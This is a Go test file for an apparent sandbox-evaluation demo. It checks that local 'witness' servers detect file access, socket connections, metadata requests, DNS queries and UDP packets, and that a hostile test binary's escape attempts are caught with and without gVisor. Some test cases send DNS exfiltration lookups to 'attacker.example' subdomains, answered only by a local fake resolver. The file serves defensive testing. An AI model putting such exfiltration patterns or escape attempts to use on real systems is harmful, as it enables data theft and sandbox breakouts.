//go:build linux

package demo

import (
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"

	"github.com/bulkhead-dev/bulkhead/boundary"
	"github.com/bulkhead-dev/bulkhead/engine/gvisor"
	"github.com/bulkhead-dev/bulkhead/image"
	"github.com/bulkhead-dev/bulkhead/internal/agent"
	"github.com/bulkhead-dev/bulkhead/internal/runner"
	"github.com/bulkhead-dev/bulkhead/internal/testbin"
	"github.com/bulkhead-dev/bulkhead/sandbox"
)

// servers are on loopback here, at ports that are free.
func servers(t *testing.T) (s *Servers, httpAddr string) {
	t.Helper()
	probe, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	httpAddr = probe.Addr().String()
	_ = probe.Close()
	if s, err = Serve(t.Context(), httpAddr, "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	return s, httpAddr
}

func newWitness(t *testing.T, s *Servers) *Witness {
	t.Helper()
	// Not t.TempDir: its long name leaves no room for a socket's.
	dir, err := os.MkdirTemp("", "demo-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	w, err := NewWitness(dir, s)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := w.Close(); err != nil {
			t.Error(err)
		}
		if left, _ := os.ReadDir(dir); len(left) > 0 {
			t.Errorf("left behind: %v", left)
		}
	})
	return w
}

func seen(t *testing.T, w *Witness) Seen {
	t.Helper()
	got, err := w.Seen(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	got.Tokens = nil
	return got
}

// TestWitness: each witness sees what it is there for, and nothing else.
func TestWitness(t *testing.T) {
	running := goleak.IgnoreCurrent()
	t.Cleanup(func() { goleak.VerifyNone(t, running) }) // after the servers' own
	s, httpAddr := servers(t)
	none := Seen{Opened: map[string]bool{}}
	opened := func(name string) Seen { return Seen{Opened: map[string]bool{name: true}} }
	for _, tt := range []struct {
		name string
		do   func(w *Witness) error
		want Seen
	}{
		{"nothing", func(*Witness) error { return nil }, none},
		{"a file is read", func(w *Witness) error { _, err := os.ReadFile(filepath.Join(w.folder, "by-path")); return err }, opened("by-path")},
		{"a file is opened only", func(w *Witness) error {
			f, err := os.Open(filepath.Join(w.folder, "by-path"))
			return errors.Join(err, f.Close())
		}, opened("by-path")},
		{"a file is looked at only", func(w *Witness) error { _, err := os.Stat(filepath.Join(w.folder, "by-path")); return err }, none},
		{"a file is made", func(w *Witness) error { return os.WriteFile(filepath.Join(w.folder, "written"), nil, 0o600) }, opened("written")},
		{"a link is made", func(w *Witness) error { return os.Symlink("x", filepath.Join(w.folder, "written")) }, opened("written")},
		{"a file is removed", func(w *Witness) error { return os.Remove(filepath.Join(w.folder, "by-chroot")) }, opened("by-chroot")},
		{"the socket is connected to", func(w *Witness) error { return dialAndClose("unix", w.socket) }, Seen{Opened: none.Opened, Connected: true}},
		{"metadata", func(w *Witness) error { return get("http://" + httpAddr + "/x?" + w.mark) }, Seen{Opened: none.Opened, Metadata: true}},
		{"metadata for another", func(*Witness) error { return get("http://" + httpAddr + "/x?another") }, none},
		{"a query", func(w *Witness) error { return lookUp(s, "exfil-"+w.mark+".attacker.example.") }, Seen{Opened: none.Opened, DNS: true}},
		{"another query", func(*Witness) error { return lookUp(s, "exfil-another.attacker.example.") }, none},
		{"a packet", func(w *Witness) error { return send(s, "raw-"+w.mark) }, Seen{Opened: none.Opened, Raw: true}},
		{"a flood, and then a packet", func(w *Witness) error {
			for range 100 {
				if err := send(s, strings.Repeat("noise", 200)); err != nil {
					return err
				}
			}
			return send(s, "raw-"+w.mark)
		}, Seen{Opened: none.Opened, Raw: true}},
	} {
		w := newWitness(t, s)
		if err := tt.do(w); err != nil {
			t.Errorf("%s: %v", tt.name, err)
		}
		if diff := cmp.Diff(tt.want, seen(t, w)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.name, diff)
		}
	}
}

func dialAndClose(network, addr string) error {
	conn, err := net.Dial(network, addr)
	if err != nil {
		return err
	}
	return conn.Close()
}

func get(url string) error {
	client := http.Client{Transport: &http.Transport{DisableKeepAlives: true}}
	res, err := client.Get(url)
	if err != nil {
		return err
	}
	defer res.Body.Close()
	_, err = io.Copy(io.Discard, res.Body)
	return err
}

func send(s *Servers, packet string) error {
	conn, err := net.Dial("udp4", s.udp.LocalAddr().String())
	if err != nil {
		return err
	}
	_, err = io.WriteString(conn, packet)
	return errors.Join(err, conn.Close())
}

// lookUp asks the fake resolver, which has to answer that there is no such name.
func lookUp(s *Servers, name string) error {
	r := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "udp4", s.udp.LocalAddr().String())
	}}
	_, err := r.LookupHost(context.Background(), name)
	if e, ok := errors.AsType[*net.DNSError](err); ok && e.IsNotFound {
		return nil
	}
	return err
}

// TestPrepareNetworkRefuses: the address of the fake servers is never given to
// a network that is in use, such as this test's.
func TestPrepareNetworkRefuses(t *testing.T) {
	if err := PrepareNetwork(); err == nil || !strings.Contains(err.Error(), "is up") {
		t.Fatalf("the network of this machine was changed, or had nothing up: %v", err)
	}
}

// TestProgramOnTheHost runs the hostile program without any sandbox (but in a
// network and mount namespace of its own, so that nothing of it stays). What it
// then reaches shows that the judge can tell.
func TestProgramOnTheHost(t *testing.T) {
	program := testbin.Path(t, "bulkhead-hostile")
	s, _ := servers(t)
	w := newWitness(t, s)
	host := ReadHost()
	cmd := exec.CommandContext(t.Context(), program, w.args()...)
	InNamespace(cmd)
	cmd.SysProcAttr.Cloneflags |= syscall.CLONE_NEWNS
	var out output
	cmd.Stdout = &out
	if err := cmd.Run(); err != nil {
		t.Skipf("no network namespace here: %v", err)
	}
	got, err := w.Seen(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	claims, ignored := out.claims()
	if len(ignored) > 0 || len(claims) != len(Attempts()) {
		t.Errorf("%d claims for %d attempts, ignored: %q", len(claims), len(Attempts()), ignored)
	}
	o := observation{host: host, guestBootID: host.BootID, guestKernel: host.Kernel, seen: got, claims: claims}
	want := map[string]bool{"host-file": true, "host-write": true, "boot-id": true, "kernel": true, "docker-sock": true}
	if os.Geteuid() == 0 {
		for _, id := range []string{"chroot", "shadow", "mount"} {
			want[id] = true
		}
	}
	for _, r := range o.judge() {
		t.Logf("%-14s %-9s %s %s", r.Attempt, r.Outcome, r.Error, r.Detail)
		if want[r.Attempt] && r.Outcome != Reached {
			t.Errorf("%s is %s without any sandbox", r.Attempt, r.Outcome)
		}
	}
}

// TestLeakIsSeen gives a gVisor sandbox the host's folder, as a careless mount
// would: the demo has to find it.
func TestLeakIsSeen(t *testing.T) {
	s, _ := servers(t)
	root, err := image.Toolchain(t.Context(), t.TempDir(), testbin.Path(t, "bulkhead-guest"))
	if err != nil {
		t.Fatal(err)
	}
	engine := gvisor.New(gvisor.Config{Supervisor: testbin.Path(t, "bulkhead-runsc"), StateDir: t.TempDir()})
	program := sandbox.Mount{Source: testbin.Path(t, "bulkhead-hostile"), Target: "/work/hostile"}
	for _, tt := range []struct {
		name   string
		mounts func(w *Witness) []sandbox.Mount
		want   map[string]Outcome
	}{
		{"no leak", func(*Witness) []sandbox.Mount { return nil }, map[string]Outcome{"host-file": Blocked, "proc-root": Blocked, "host-write": Blocked}},
		{"read-only", func(w *Witness) []sandbox.Mount { return []sandbox.Mount{{Source: w.folder, Target: w.folder}} },
			map[string]Outcome{"host-file": Reached, "proc-root": Reached, "host-write": Blocked}},
		{"writable", func(w *Witness) []sandbox.Mount {
			return []sandbox.Mount{{Source: w.folder, Target: w.folder, Writable: true}}
		},
			map[string]Outcome{"host-file": Reached, "proc-root": Reached, "host-write": Reached}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := newWitness(t, s)
			run, err := Observe(t.Context(), runner.Request{
				Place: runner.Place{Engine: engine, Minimum: boundary.UserKernel, Spec: sandbox.Spec{
					ID: "leak-" + strings.ToLower(w.mark[:10]), Root: root, Agent: []string{image.AgentPath}, User: image.User(),
					Mounts: append(tt.mounts(w), program),
				}},
				Execution: runner.Execution{Command: agent.Command{Args: []string{program.Target}, Dir: "/"}},
			}, w, ReadHost())
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range run.Results {
				if want, ok := tt.want[r.Attempt]; ok && r.Outcome != want {
					t.Errorf("%s is %s, want %s (%s)", r.Attempt, r.Outcome, want, r.Detail)
				}
			}
			if len(run.Ignored) > 0 {
				t.Errorf("ignored: %q", run.Ignored)
			}
		})
	}
}

// TestObserveBounds: a program that says nothing, floods or fails is no success.
func TestObserveBounds(t *testing.T) {
	s, _ := servers(t)
	root, err := image.Toolchain(t.Context(), t.TempDir(), testbin.Path(t, "bulkhead-guest"))
	if err != nil {
		t.Fatal(err)
	}
	engine := gvisor.New(gvisor.Config{Supervisor: testbin.Path(t, "bulkhead-runsc"), StateDir: t.TempDir()})
	for name, script := range map[string]string{
		"silent": "exit 0",
		"fails":  "echo no >&2; exit 3",
		"floods": "head -c 3000000 /dev/zero | tr '\\0' x",
	} {
		w := newWitness(t, s)
		ctx, stop := context.WithTimeout(t.Context(), time.Minute)
		run, err := Observe(ctx, runner.Request{
			Place: runner.Place{Engine: engine, Minimum: boundary.UserKernel, Spec: sandbox.Spec{
				ID: "bounds-" + name, Root: root, Agent: []string{image.AgentPath}, User: image.User(),
			}},
			Execution: runner.Execution{Command: agent.Command{Args: []string{"/bin/sh", "-c", script}, Dir: "/"}},
		}, w, ReadHost())
		stop()
		if err != nil {
			t.Fatal(err)
		}
		if n := run.Count(NotRun); n != len(Attempts()) || (name != "silent") != (len(run.Ignored) > 0) {
			t.Errorf("%s: %d of %d not run, ignored %q", name, n, len(Attempts()), run.Ignored)
		}
	}
}
